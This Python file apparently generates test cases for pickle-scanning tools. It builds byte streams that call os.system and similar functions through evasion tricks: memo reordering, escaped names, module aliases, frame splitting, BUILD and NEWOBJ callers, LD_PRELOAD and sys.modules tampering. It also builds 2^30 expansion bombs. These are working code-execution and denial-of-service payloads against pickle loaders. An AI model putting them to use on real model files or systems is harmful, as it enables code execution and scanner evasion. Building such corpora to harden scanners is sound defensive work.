"""Pickles whose instructions are arranged so that a reader loses sight of what they call."""

import struct
from collections.abc import Iterator

from hostile_artifacts.case import STREAM, Case, bare
from hostile_artifacts.opcodes import (
    BENIGN,
    COMMAND,
    PAYLOAD,
    STOP,
    SYSTEM,
    Code,
    call,
    framed,
    named,
    payload,
    push,
    stacked,
    text,
    whole,
)

_ARGS = push((COMMAND,))
_LONG = 100_000
"""Instructions in front of a payload: more than a reader that samples would follow."""
_DOUBLINGS = 30
"""A list of two references to the one before, and so on: 2^30 elements when it is shown."""


def _breaks() -> dict[str, tuple[str, bytes]]:
    """The payload has run when the stream turns out to be broken."""
    start = b"\x80\x02"
    return {
        "payload-then-unknown-opcode": ("unknown-opcode", start + PAYLOAD + b"\xff" + STOP),
        "payload-then-opcode-of-zero": ("unknown-opcode", start + PAYLOAD + b"\x00" + STOP),
        "payload-then-nothing": ("truncated-tail", start + PAYLOAD),
        "payload-then-half-an-instruction": (
            "truncated-tail",
            start + PAYLOAD + b"X\xff\x00\x00\x00ab",
        ),
        "payload-then-empty-stack": ("payload-before-break", start + PAYLOAD + b"00" + STOP),
        "payload-then-missing-memo": ("payload-before-break", start + PAYLOAD + b"h\x63" + STOP),
        "payload-then-missing-mark": ("payload-before-break", start + PAYLOAD + b"t" + STOP),
        "payload-then-negative-length": (
            "payload-before-break",
            start + PAYLOAD + b"\x8b" + struct.pack("<i", -1) + STOP,
        ),
        "payload-then-length-of-2-to-62": (
            "payload-before-break",
            start + PAYLOAD + b"\x8e" + struct.pack("<Q", 1 << 62) + STOP,
        ),
        "payload-then-number-that-is-none": (
            "payload-before-break",
            start + PAYLOAD + b"Inumber\n" + STOP,
        ),
        "payload-then-bad-text": (
            "payload-before-break",
            start + PAYLOAD + b"X\x02\x00\x00\x00\xff\xfe" + STOP,
        ),
        "payload-in-protocol-2-then-buffer": ("payload-before-break", start + PAYLOAD + b"\x97."),
    }


def _memo() -> dict[str, tuple[str, bytes]]:
    """Where a value lies in the memo is decided by its number, not by its turn."""
    far = struct.pack("<I", 1_000_000)
    again = text("posix") + b"q\x00" + b"0" + text("system") + b"q\x01" + b"0"
    found = b"h\x00h\x01\x93"
    return {
        "memo-number-far-from-its-turn": (
            "memo-index",
            SYSTEM + b"r" + far + b"0" + BENIGN + b"0" + b"j" + far + _ARGS + b"R",
        ),
        "memo-number-in-text": ("memo-index", SYSTEM + b"p7\n0g7\n" + _ARGS + b"R"),
        "memo-number-in-text-with-zeros": ("memo-index", SYSTEM + b"p0007\n0g7\n" + _ARGS + b"R"),
        "memo-overwritten": (
            "memo-index",
            named("collections", "OrderedDict")
            + b"q\x000"
            + SYSTEM
            + b"q\x000h\x00"
            + _ARGS
            + b"R",
        ),
        "memoize-after-a-far-number": (
            "memo-index",
            push("x") + b"r" + far + b"0" + SYSTEM + b"\x940h\x01" + _ARGS + b"R",
        ),
        "name-from-memo": ("name-from-stack", again + found + _ARGS + b"R"),
        "name-from-memo-in-text": (
            "name-from-stack",
            text("posix") + b"p0\n0" + text("system") + b"p1\n0g0\ng1\n\x93" + _ARGS + b"R",
        ),
        "name-from-dup": (
            "name-from-stack",
            # resolves timeit.timeit: the module's name is the function's
            text("timeit") + b"2\x93" + push(("pass",)) + b"R",
        ),
        "name-after-pop": (
            "name-from-stack",
            text("posix") + text("x") + b"0" + text("system") + b"\x93" + _ARGS + b"R",
        ),
        "name-from-escaped-text": (
            "name-from-stack",
            b"Vp\\u006fsix\nVsyst\\u0065m\n\x93" + _ARGS + b"R",
        ),
        "name-from-byte-strings": (
            "name-from-stack",
            b"U\x05posixU\x06system\x93" + _ARGS + b"R",
        ),
        "name-from-quoted-strings": (
            "name-from-stack",
            b"S'p\\x6fsix'\nS\"syste\\155\"\n\x93" + _ARGS + b"R",
        ),
        "name-from-long-texts": (
            "name-from-stack",
            b"\x8d" + struct.pack("<Q", 5) + b"posix" + text("system") + b"\x93" + _ARGS + b"R",
        ),
    }


def _ways() -> dict[str, tuple[str, bytes]]:
    """Every instruction that calls something."""
    state = named("collections", "OrderedDict") + b")\x81"
    return {
        "inst": ("inst", b"(" + text(COMMAND) + b"iposix\nsystem\n"),
        "obj": ("obj", b"(" + SYSTEM + text(COMMAND) + b"o"),
        "obj-of-a-computed-callee": ("obj", b"(" + _found_system() + text(COMMAND) + b"o"),
        # __new__ of a map calls nothing yet, __new__ of a set of it does
        "newobj": ("newobj", _new("frozenset", _new("map", SYSTEM, [COMMAND]))),
        "newobj-ex": (
            "newobj-ex",
            _new("tuple", _new("map", SYSTEM, [COMMAND], keywords=True), keywords=True),
        ),
        "build-sets-the-state-of-state": (
            "build",
            # __setstate__ of the object becomes a function, which the next BUILD calls
            state + push({"__setstate__": SYSTEM}) + b"b" + text(COMMAND) + b"b",
        ),
        "build-on-a-class": (
            "build",
            named("sklearn.linear_model._logistic", "LogisticRegression")
            + push({"predict": named("builtins", "eval")})
            + b"b",
        ),
        "build-with-a-payload-inside": ("build", state + push({"x": PAYLOAD}) + b"b"),
        "fill-of-the-environment": (
            "fill",
            named("os", "environ") + push("LD_PRELOAD") + push("/nonexistent/x.so") + b"s",
        ),
        "fill-of-the-modules": (
            "fill",
            named("sys", "modules") + b"(" + push("json") + SYSTEM + b"u",
        ),
        "fill-of-the-search-path": ("fill", named("sys", "path") + push("/nonexistent") + b"a"),
        "popped": ("popped-result", PAYLOAD + b"0" + BENIGN),
        "popped-with-its-mark": ("popped-result", b"(" + PAYLOAD + b"1" + BENIGN),
        "popped-from-a-list": ("popped-result", b"](" + PAYLOAD + b"e0" + BENIGN),
        "kept-in-the-memo-only": ("popped-result", PAYLOAD + b"q\x000" + BENIGN),
        "callee-out-of-a-call": ("computed-callee", call(_found_system(), COMMAND)),
        "callee-out-of-a-persistent-id": ("persistent-id", text("id") + b"Q" + _ARGS + b"R"),
        "callee-out-of-a-persistent-id-in-text": ("persistent-id", b"Pid\n" + _ARGS + b"R"),
    }


def _found_system() -> Code:
    """``os.system``, found through a module that is often allowed."""
    getattr_ = named("builtins", "getattr")
    return call(getattr_, call(getattr_, named("os", "path"), "os"), "system")


def _new(name: str, *args: object, keywords: bool = False) -> Code:
    """NEWOBJ or NEWOBJ_EX of a class that everybody has."""
    rest = push({}) + b"\x92" if keywords else b"\x81"
    return Code(named("builtins", name) + push(args) + rest)


def _names() -> dict[str, tuple[str, bytes]]:
    """Names that stand for others, as Python resolves them."""
    found: dict[str, tuple[str, bytes]] = {}
    for module, name in (
        ("__builtin__", "eval"),
        ("__builtin__", "apply"),
        ("__builtin__", "execfile"),
        ("builtins", "exec"),
        ("nt", "system"),
        ("posix", "popen"),
        ("os", "system"),
    ):
        found[f"alias-{module.strip('_')}-{name}"] = ("aliases", call(named(module, name), "0"))
    for module, name in (
        ("commands", "getoutput"),
        ("urllib", "urlopen"),
        ("urllib2", "urlopen"),
        ("cPickle", "loads"),
    ):
        found[f"python-2-{module}-{name}"] = ("python-2-names", call(named(module, name), "x"))
    for module, name in (
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        ("multiprocessing.popen_spawn_posix", "spawn.util.os.system"),
        ("concurrent.futures.process", "os.system"),
    ):
        label = f"submodule-{module}".replace(".", "-")
        found[label] = ("submodule", call(stacked(module, name), COMMAND))
    for module, name in (
        ("shutil", "os.system"),
        ("sklearn.datasets._base", "os.system"),
        ("joblib.parallel", "os.system"),
        ("numpy", "f2py.os.system"),
    ):
        label = f"dotted-{module}-{name.rsplit('.', 1)[0]}".replace(".", "-").replace("_", "")
        found[label] = ("dotted-names", call(stacked(module, name), COMMAND))
    for module, name in (
        ("picklescan.scanner", "scan_file_path"),
        ("fickling.hook", "run_hook"),
        ("modelscan.modelscan", "ModelScan"),
        ("bartizan.adapt", "load_model"),
    ):
        label = f"scanner-{module}-{name}".replace(".", "-").replace("_", "-").lower()
        found[label] = ("scanner-module", call(named(module, name), "/nonexistent"))
    return found


def _frames() -> dict[str, bytes]:
    """What lies in a frame, across its end, or in a second one."""
    body = stacked("posix", "system") + _ARGS + b"R"
    inner = framed(body)
    return {
        "frame-ends-inside-a-name": framed(body, length=5),
        "frame-ends-inside-an-argument": framed(body, length=len(body) - 4),
        "frame-of-nothing": framed(body, length=0),
        "frame-within-a-frame": framed(b"\x95" + struct.pack("<Q", len(body)) + body),
        "frames-for-every-instruction": b"\x80\x04"
        + b"".join(b"\x95" + struct.pack("<Q", len(one)) + one for one in _apart(body))
        + STOP,
        "frame-in-protocol-2": b"\x80\x02" + inner[2:],
    }


def _apart(body: bytes) -> list[bytes]:
    """The instructions of the payload, each on its own."""
    module, name = b"\x8c\x05posix", b"\x8c\x06system"
    rest = body[len(module) + len(name) + 1 :]
    argument = text(COMMAND)
    return [module, name, b"\x93", rest[:1], argument, rest[1 + len(argument) : -1], rest[-1:]]


def _expanding() -> Code:
    """Lists of lists, each of which holds the one before twice."""
    doubled = b"".join(
        b"q" + bytes([n]) + b"0](" + (b"h" + bytes([n])) * 2 + b"e" for n in range(_DOUBLINGS)
    )
    return Code(push(["x", "x"]) + doubled)


def _deep_key() -> Code:
    """A tuple of the one before, twice, and so on. Python before 3.14 keeps no hash of a tuple."""
    doubled = b"".join(b"q" + bytes([n]) + b"0" + b"h" + bytes([n]) + b"2\x86" for n in range(30))
    return Code(push(("x", "x")) + doubled)


def _turns() -> dict[str, tuple[str, bytes]]:
    """Instructions that come where no pickler writes them."""
    return {
        "proto-in-the-middle": (
            "misplaced-proto",
            b"\x80\x02" + BENIGN + b"0\x80\x02" + PAYLOAD + STOP,
        ),
        "proto-again-and-lower": ("misplaced-proto", b"\x80\x04\x80\x00" + PAYLOAD + STOP),
        "proto-0-with-names-of-protocol-4": (
            "misplaced-proto",
            b"\x80\x00" + stacked("posix", "system") + _ARGS + b"R.",
        ),
        "no-proto-with-names-of-protocol-4": (
            "misplaced-proto",
            stacked("posix", "system") + _ARGS + b"R.",
        ),
        "expansion-and-payload": ("expansion", whole(_expanding() + b"0" + PAYLOAD)),
        "payload-after-many-instructions": (
            "long-before-payload",
            whole(b"N0" * _LONG + PAYLOAD),
        ),
        "payload-after-a-long-text": (
            "long-before-payload",
            whole(push("x" * 2_000_000) + b"0" + PAYLOAD),
        ),
        "payload-after-a-long-number": (
            "long-before-payload",
            whole(b"\x8b" + struct.pack("<i", 50_000) + b"\x7f" * 50_000 + b"0" + PAYLOAD),
        ),
        "payload-below-many-lists": (
            "long-before-payload",
            whole(b"](" * 5_000 + PAYLOAD + b"e" * 5_000),
        ),
        "payload-in-protocol-0": ("aliases", payload(0)),
        "payload-in-protocol-5": ("aliases", framed(PAYLOAD, protocol=5)),
    }


def _extensions() -> dict[str, bytes]:
    """Codes of the registry of `copyreg`: what they stand for is nowhere in the stream."""
    return {
        "extension-of-one-byte": b"\x82\x07" + _ARGS + b"R",
        "extension-of-two-bytes": b"\x83\x07\x01" + _ARGS + b"R",
        "extension-of-four-bytes": b"\x84\x07\x01\x00\x00" + _ARGS + b"R",
    }


def cases() -> Iterator[Case]:
    """Every arrangement."""
    for name, (weakness, stream) in _breaks().items():
        yield bare(name, stream, family=STREAM, weakness=weakness, parses=False)
    for name, (weakness, body) in {**_memo(), **_ways(), **_names()}.items():
        yield bare(name, whole(body, protocol=4), family=STREAM, weakness=weakness)
    for name, stream in _frames().items():
        yield bare(name, stream, family=STREAM, weakness="frames")
    for name, (weakness, stream) in _turns().items():
        yield bare(name, stream, family=STREAM, weakness=weakness)
    for name, body in _extensions().items():
        yield bare(name, whole(body), family=STREAM, weakness="extension-registry")
    # nothing happens until somebody shows the list
    yield _bomb("expansion", whole(_expanding()))
    # whoever loads it hashes a tuple, which takes 2^30 steps: never give this one to a reader
    yield _bomb("expansion-as-a-key", whole(b"}" + _deep_key() + b"Ns"))


def _bomb(name: str, stream: bytes) -> Case:
    return Case(
        name=name,
        family=STREAM,
        weakness="expansion",
        ending=".pkl",
        content=lambda: stream,
        least="inconclusive",
    )
